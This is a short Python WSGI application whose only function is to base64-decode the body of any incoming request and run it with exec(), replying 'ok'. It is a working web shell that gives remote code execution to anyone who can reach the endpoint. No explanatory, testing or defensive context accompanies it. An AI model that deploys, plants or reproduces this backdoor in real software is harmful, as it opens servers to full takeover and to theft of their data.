import base64
def application(environ, start_response):
    body = environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0))
    exec(base64.b64decode(body))
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
